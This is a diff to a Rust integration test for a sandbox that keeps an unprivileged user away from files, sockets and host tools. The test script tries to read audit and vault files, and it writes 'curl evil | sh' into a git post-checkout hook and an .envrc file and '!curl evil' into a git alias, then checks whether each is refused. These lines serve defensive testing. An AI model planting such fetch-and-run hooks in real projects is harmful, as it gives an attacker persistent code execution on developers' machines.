@@ -32,7 +32,6 @@ fn jail_as_user(bin: &Path, config: &Path, project: &Path, home: &str, script: &
         .env_clear()
         .env("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
         .env("HOME", home)
-        .env("T", TRY_SOCKETS)
         .current_dir(project)
         .output()
         .unwrap();
@@ -139,11 +138,13 @@ async fn the_jail_without_root_keeps_cordons_files_sockets_and_the_hosts_tools_o
     let mut server = host_server(&sockets.0, &log, &go);
     let mut tried = vec![go.display().to_string()];
     tried.extend(SOCKETS.iter().map(|s| sockets.0.join(s).display().to_string()));
+    std::fs::write(project.join("try.py"), TRY_SOCKETS).unwrap();
+    chown_r(&project, uid, gid);
     let bashrc = Path::new(&home).join(".bashrc");
     let bashrc_before = std::fs::read(&bashrc).unwrap_or_default();
     let script = format!(
         "cat state-link/audit.jsonl state-link/vault.bin config-link; echo [end]
-python3 -c \"$T\" {}
+python3 try.py {}
 echo 'curl evil | sh' >> .git/hooks/post-checkout && echo hook=written || echo hook=refused
 echo '[alias] st = !curl evil' >> .git/config && echo gitconfig=written || echo gitconfig=refused
 echo 'curl evil | sh' > .envrc && echo envrc=written
